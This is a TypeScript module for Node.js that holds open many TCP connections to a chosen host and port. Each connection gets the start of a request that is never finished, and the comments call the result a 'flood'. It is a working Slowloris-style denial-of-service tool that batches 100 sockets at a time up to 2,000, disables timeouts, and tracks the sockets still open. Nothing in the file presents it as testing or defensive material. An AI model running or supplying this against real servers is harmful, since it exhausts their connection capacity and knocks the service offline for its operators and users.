import { connect, type Socket } from 'node:net';

let held: Socket[] = [];

/** Most connections that one flood opens. */
const LIMIT = 2_000;
/** How many are opened at once. */
const LOT = 100;

/** Opens many connections and keeps them open, each with the beginning of a request that never ends. */
export async function hold(ask: {
  readonly to: string;
  readonly port: number;
  readonly count: number;
  readonly send: string;
}): Promise<{ readonly open: number }> {
  const count = Math.min(ask.count, LIMIT);
  for (let done = 0; done < count; done += LOT) {
    await Promise.all(
      Array.from(
        { length: Math.min(LOT, count - done) },
        () =>
          new Promise<void>((resolve) => {
            const socket = connect({ host: ask.to, port: ask.port, timeout: 5_000 }, () => {
              socket.setTimeout(0);
              socket.write(ask.send);
              resolve();
            });
            socket.on('error', () => resolve());
            socket.on('timeout', () => socket.destroy());
            socket.on('close', () => resolve());
            held.push(socket);
          }),
      ),
    );
  }
  return { open: stillOpen() };
}

/** Keeps another connection open. */
export function keepOpen(socket: Socket): void {
  held.push(socket);
}

/** Closes them all. @returns how many were still open */
export function release(): { readonly open: number } {
  const open = stillOpen();
  for (const socket of held) socket.destroy();
  held = [];
  return { open };
}

function stillOpen(): number {
  return held.filter((socket) => socket.readyState === 'open').length;
}
